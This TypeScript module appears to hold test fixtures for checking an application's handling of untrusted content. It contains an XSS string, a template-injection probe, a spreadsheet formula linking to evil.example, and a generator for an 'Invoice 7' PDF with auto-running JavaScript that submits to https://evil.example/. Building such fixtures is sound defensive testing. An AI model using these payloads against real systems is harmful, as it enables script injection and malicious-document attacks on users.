import { crc32, deflateSync } from 'node:zlib';

/** Text that would run if it were rendered as HTML. */
export const MARKUP = `"><img src=x onerror="window.__hacked=1"><script>window.__hacked=2</script>{{7*7}}`;
/** Text that a spreadsheet would take for a formula. */
export const FORMULA = '=HYPERLINK("https://evil.example","pay")';
/** A script that leaves a trace when it runs. */
export const SCRIPT = Buffer.from('globalThis.__hacked = 3; globalThis.window && alert(3);\n');

/** A PDF of one page with JavaScript that runs when it is opened, shown, or its only link is followed. */
export function scriptedPdf(): Buffer {
  const action = '<< /S /JavaScript /JS (app.alert("hacked"); this.submitForm("https://evil.example/")) >>';
  const text = 'BT /F1 32 Tf 72 700 Td (Invoice 7) Tj ET';
  const link = '/Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (javascript:alert\\(1\\)) >>';
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /Names << /JavaScript << /Names [(a) ${action}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
       /AA << /O ${action} >> /Annots [<< /Type /Annot ${link} >>] >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

function pdfOf(objects: readonly string[]): Buffer {
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  const table = `xref\n0 ${count}\n0000000000 65535 f \n${lines}trailer\n<< /Size ${count} /Root 1 0 R >>\n`;
  return Buffer.from(`${body}${table}startxref\n${body.length}\n%%EOF\n`, 'latin1');
}

/** A noise image, which does not compress: about three bytes for each pixel. */
export function noisePng(width: number, height: number): Buffer {
  const rows = Buffer.alloc((width * 3 + 1) * height);
  let state = 1;
  for (let at = 0; at < rows.length; at += 1) {
    // A linear congruential generator: the same picture each time.
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    rows[at] = at % (width * 3 + 1) === 0 ? 0 : state >>> 24;
  }
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = deflateSync(rows, { level: 0 });
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(kind: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}
